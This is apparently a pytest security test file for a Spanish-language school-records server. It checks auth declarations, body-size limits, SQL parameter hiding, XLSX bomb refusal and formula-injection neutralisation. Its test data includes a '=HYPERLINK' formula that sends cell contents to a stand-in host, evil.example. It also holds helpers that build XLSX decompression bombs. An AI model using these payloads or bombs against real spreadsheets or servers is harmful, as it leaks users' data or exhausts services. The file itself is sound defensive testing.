"""The rest of #13 item 8, from the attacker's side, on both databases: the OpenAPI document declares
its bearer scheme and no page loads a CDN script; every request body is bounded before it is read,
whatever its content type; bound SQL values never reach an exception or a log line; XLSX bombs
(zip bomb, declared dimensions, millions of rows or a billion-row gap in a small file) are refused
in Spanish before openpyxl reads a row; strings longer than their column get the same 422 on
PostgreSQL and SQLite; SAE text starting with = + - @ or a tab is stored verbatim and exported as text.
"""
from __future__ import annotations

import io
import logging
import socket
import zipfile
from urllib.parse import urlsplit

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, text

from server.db.models import SaeRecord
from tests.server.helpers import HEADER, csv_bytes, matricula, sae_row

ANONYMOUS = {("/health", "get"), ("/auth/challenge", "post"), ("/auth/login", "post")}


def assert_spanish_error(r, status: int):
    assert r.status_code == status, (r.status_code, r.text[:300])
    error = r.json()["error"]
    assert error["code"] and error["message"]
    return error


# ------------------------------------------------------------------ OpenAPI, /docs


def test_openapi_declares_the_bearer_scheme_on_every_signed_in_route(server):
    doc = server.call(None, "GET", "/openapi.json").json()
    assert doc["components"]["securitySchemes"]["bearer"] == {
        **doc["components"]["securitySchemes"]["bearer"], "type": "http", "scheme": "bearer"}
    for path, operations in doc["paths"].items():
        for method, operation in operations.items():
            if (path, method) in ANONYMOUS:
                assert not operation.get("security"), (method, path)
            else:
                assert operation.get("security") == [{"bearer": []}], (method, path)


@pytest.mark.parametrize("path", ["/docs", "/redoc", "/docs/oauth2-redirect"])
def test_no_documentation_page_loads_a_cdn_script(server, path):
    r = server.call(None, "GET", path)
    assert_spanish_error(r, 404)
    assert "cdn" not in r.text.lower() and "<script" not in r.text.lower()


# ------------------------------------------------------------------ body bounds


def _declare_and_read_status(server, method: str, path: str, ctype: str, declared: int, token: str | None) -> bytes:
    url = urlsplit(server.base)
    auth = f"Authorization: Bearer {token}\r\n" if token else ""
    with socket.create_connection((url.hostname, url.port), timeout=20) as sock:
        sock.sendall((f"{method} {path} HTTP/1.1\r\nHost: {url.hostname}\r\nContent-Type: {ctype}\r\n{auth}"
                      f"Content-Length: {declared}\r\n\r\n").encode())
        try:
            sock.sendall(b"x" * 65536)
        except OSError:
            pass  # already answered and closed
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    return answer.split(b" ", 2)[1]


@pytest.mark.parametrize("path", ["/students/990010001-0/commands", "/sync/commands", "/print-orders",
                                  "/mail/campaigns", "/requests"])
@pytest.mark.parametrize("ctype", ["text/plain", "application/octet-stream", "multipart/form-data; boundary=x"])
def test_a_non_json_body_on_a_json_route_is_refused_before_it_is_read(server, path, ctype):
    """FastAPI reads a body route's whole body before authentication: a declared 400 MB body of
    any content type is refused at once, anonymous or signed in."""
    for token in (None, server.token("operador")):
        assert _declare_and_read_status(server, "POST", path, ctype, 400 * 1024 * 1024, token) == b"413"


def test_a_chunked_non_json_body_is_cut_at_the_bound(server):
    body = iter([b"x" * (1024 * 1024)] * 3)  # 3 MB, no Content-Length
    r = server.session.post(server.base + "/print-orders", data=body, headers={"Content-Type": "text/plain"})
    assert_spanish_error(r, 413)


def test_streamed_uploads_keep_their_own_bounds(server):
    """A blob over the 2 MB JSON bound but under its own 5 MB bound reaches its route (which
    then finds the hash wrong), and over 5 MB is refused by the route."""
    m = server.find("ENROLLED")
    data = b"\xff" * (3 * 1024 * 1024)
    r = server.call("operador", "PUT", "/blobs/" + "0" * 64, params={"kind": "photo", "matricula": m}, data=data,
                    headers={"Content-Type": "application/octet-stream"})
    assert assert_spanish_error(r, 422)["code"] == "blob_hash_mismatch"
    r = server.call("operador", "PUT", "/blobs/" + "0" * 64, params={"kind": "photo", "matricula": m},
                    data=b"\xff" * (6 * 1024 * 1024), headers={"Content-Type": "application/octet-stream"})
    assert_spanish_error(r, 413)


# ------------------------------------------------------------------ SQL parameters


def test_bound_values_never_reach_an_exception_or_a_log(server, caplog):
    """A failing statement's bound values (CURPs, names, hashes) are hidden on both databases."""
    from server.db.engine import make_engine

    secret = "TEMG080312HDFLRBA3-SECRETO"
    engine = make_engine(server.url, pool_size=1)
    table = f"tmp_params_{server.backend}"
    try:
        with engine.begin() as conn:
            conn.execute(text(f"CREATE TABLE IF NOT EXISTS {table} (v VARCHAR(200) CHECK (length(v) < 5))"))
        with pytest.raises(Exception) as caught:
            with engine.begin() as conn:
                conn.execute(text(f"INSERT INTO {table} (v) VALUES (:v)"), {"v": secret})
        with caplog.at_level(logging.DEBUG):
            logging.getLogger("server").error("fallo", exc_info=caught.value)
        assert "SECRETO" not in str(caught.value) and "SECRETO" not in repr(caught.value)
        assert "SECRETO" not in caplog.text
        assert "hidden due to hide_parameters" in str(caught.value)
    finally:
        with engine.begin() as conn:
            conn.execute(text(f"DROP TABLE IF EXISTS {table}"))
        engine.dispose()


# ------------------------------------------------------------------ XLSX bombs


def _sae_xlsx(rows: list[list[str]]) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rewrite_sheet(data: bytes, edit) -> bytes:
    """The workbook ``data`` with ``xl/worksheets/sheet1.xml`` replaced by ``edit(old_xml)``."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = edit(content)
            target.writestr(info.filename, content)
    return out.getvalue()


def _declared_dimension(xml: bytes) -> bytes:
    import re

    return re.sub(rb"<dimension ref=\"[^\"]*\"\s*/>", b'<dimension ref="A1:XFD1048576"/>', xml)


def _million_empty_rows(xml: bytes) -> bytes:
    return xml.replace(b"</sheetData>", b"<row/>" * 2_000_000 + b"</sheetData>")


def _billion_row_gap(xml: bytes) -> bytes:
    import re

    xml = re.sub(rb"<dimension ref=\"[^\"]*\"\s*/>", b"", xml)
    return xml.replace(b"</sheetData>", b'<row r="999999999"><c r="A999999999" t="inlineStr"><is><t>x</t></is></c>'
                                        b"</row></sheetData>")


def _shared_strings_bomb(data: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        target.writestr("xl/sharedStrings.xml", b"<sst>" + b"<si><t>aaaaaaaaaa</t></si>" * 8_000_000 + b"</sst>")
    return out.getvalue()


BOMBS = {
    "declared_dimension": lambda d: _rewrite_sheet(d, _declared_dimension),
    "million_rows": lambda d: _rewrite_sheet(d, _million_empty_rows),
    "billion_row_gap": lambda d: _rewrite_sheet(d, _billion_row_gap),
    "shared_strings": _shared_strings_bomb,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_sae_xlsx_bombs_are_refused_in_spanish_and_write_nothing(server, bomb):
    m = matricula(1, 601 + list(BOMBS).index(bomb))
    data = BOMBS[bomb](_sae_xlsx([sae_row(m)]))
    assert len(data) < 3 * 1024 * 1024  # a small file
    r = server.call("estatal", "POST", "/sae/files", params={"filename": "sae.xlsx"}, data=data,
                    headers={"Content-Type": "application/octet-stream"})
    error = assert_spanish_error(r, 422)
    assert error["code"] == "sae_file_too_large"
    assert any(word in error["message"] for word in ("filas", "descomprimirse", "comprimido")), error
    with server.db() as s:
        assert s.get(SaeRecord, m) is None


def test_a_normal_sae_xlsx_still_imports(server):
    m = matricula(1, 611)
    r = server.call("estatal", "POST", "/sae/files", params={"filename": "sae.xlsx"}, data=_sae_xlsx([sae_row(m)]),
                    headers={"Content-Type": "application/octet-stream"})
    assert r.status_code == 200 and r.json()["imported"] == 1, r.text


@pytest.mark.parametrize("bomb", ["declared_dimension", "million_rows", "shared_strings"])
def test_mail_and_accounts_xlsx_readers_refuse_bombs(bomb):
    from server.accounts.files import FileProblem, read_table as accounts_table
    from server.errors import ApiError
    from server.mail.audience import read_table as mail_table

    data = BOMBS[bomb](_sae_xlsx([sae_row(matricula(1, 620))]))
    with pytest.raises(ApiError) as caught:
        mail_table(data, "lista.xlsx")
    assert caught.value.status == 422 and caught.value.code == "invalid_list_file"
    assert "Excel" in caught.value.message
    with pytest.raises(FileProblem) as problem:
        accounts_table(data, "cuentas.xlsx")
    assert "Excel" in problem.value.message


def test_declared_size_reads_excel_references():
    from server.xlsx_guard import declared_size

    assert declared_size("A1:AD60001") == (60001, 30)
    assert declared_size("A1") == (1, 1)
    assert declared_size("A1:XFD1048576") == (1048576, 16384)
    assert declared_size("nonsense!") == (0, 0)


# ------------------------------------------------------------------ formula-looking SAE text


FORMULA_TEXT = ['=HYPERLINK("http://evil.example/?d="&A2,"clic")', "+52 55 1234 5678", "-MARTÍNEZ", "@SUMA(A1)",
                "\tTABULADO"]


def test_sae_text_that_looks_like_a_formula_is_stored_verbatim_and_exported_as_text(server):
    rows = []
    for i, evil in enumerate(FORMULA_TEXT):
        rows.append(sae_row(matricula(1, 631 + i), **{"Carrera": evil, "Institución médica": evil}))
    r = server.call("estatal", "POST", "/sae/files", params={"filename": "sae.csv"}, data=csv_bytes(rows),
                    headers={"Content-Type": "text/csv"})
    assert r.status_code == 200, r.text
    with server.db() as s:
        stored = {rec.matricula: rec for rec in s.scalars(select(SaeRecord).where(
            SaeRecord.matricula.in_([matricula(1, 631 + i) for i in range(len(FORMULA_TEXT))])))}
    assert len(stored) == len(FORMULA_TEXT), r.json()
    for i, evil in enumerate(FORMULA_TEXT):
        record = stored[matricula(1, 631 + i)]
        # verbatim (the SAE reader trims blanks around every cell, a leading tab included)
        assert record.career == record.health_institution == evil.strip()
    # imported into the student list, the plantel XLSX shows them as text, never formulas
    for i in range(len(FORMULA_TEXT)):
        r = server.call("supervisor", "POST", f"/sae/{matricula(1, 631 + i)}/import")
        assert r.status_code in (200, 201), r.text
    r = server.call("estatal", "GET", "/reports/campus/001/students.xlsx")
    assert r.status_code == 200, r.text
    ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
    values = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for evil in FORMULA_TEXT:
        assert evil.strip() in values and values[evil.strip()].data_type == "s", evil
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


# ------------------------------------------------------------------ length parity


def test_a_string_longer_than_its_column_is_the_same_422_on_both_databases(server):
    """PostgreSQL raised DataError (a 500) and SQLite stored the whole string; now both refuse
    before the statement is sent, naming the field, and nothing is written."""
    from datetime import datetime, timezone

    from server.errors import ApiError

    m = matricula(1, 651)
    record = SaeRecord(matricula=m, curp="TEMG080312HDFLRBA3", first_names="ANA", first_surname="LÓPEZ",
                       campus_code="001", group_code="G" * 41, enrolled=True, imported_at=datetime.now(timezone.utc))
    with server.db() as s:
        s.add(record)
        with pytest.raises(ApiError) as caught:
            s.commit()
        s.rollback()
    assert caught.value.status == 422 and caught.value.field == "group_code"
    assert caught.value.message == "El campo «group_code» admite como máximo 40 caracteres (se recibieron 41)."
    with server.db() as s:
        assert s.get(SaeRecord, m) is None
        record.group_code = "G" * 40  # at the limit: stored on both
        s.merge(record)
        s.commit()
        assert len(s.get(SaeRecord, m).group_code) == 40


def test_mail_report_writes_names_and_bounce_diagnostics_as_text():
    """A remote server's bounce diagnostic and the campaign's name are outside text."""
    from types import SimpleNamespace

    from server.mail.report import COLUMNS, report_xlsx

    evil = '=HYPERLINK("http://evil.example/?d="&A2,"clic")'
    campaign = SimpleNamespace(name=evil, id=7)
    summary = {"counts": {}, "bounced": {}, "total": 1}
    row = ("fila 2", "990010001-0", "001", "a@b.mx", "Rebotado", "Permanente", "5.1.1", evil)
    assert len(row) == len(COLUMNS)
    book = load_workbook(io.BytesIO(report_xlsx(campaign, summary, [row])))
    cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r]
    assert sum(c.value == evil for c in cells) == 2
    assert all(c.data_type != "f" for c in cells)


def test_accounts_csv_neutralises_formula_text_but_never_the_password():
    from server.accounts.exports.common import FileSpec, csv_cell, write_csv

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+52") == "'+52" and csv_cell("-x") == "'-x"
    assert csv_cell("@A") == "'@A" and csv_cell("\tT") == "'\tT" and csv_cell("Ana") == "Ana"
    spec = FileSpec(name="prueba", header=("Nombre", "Contraseña"), required=(), max_rows=10,
                    password_column="Contraseña")
    (produced,) = write_csv(spec, [{"Nombre": "=HYPERLINK(1)", "Contraseña": "=aB3#xyz9"}], "p")
    line = produced.data.decode("utf-8").splitlines()[1]
    assert line == "'=HYPERLINK(1),=aB3#xyz9"
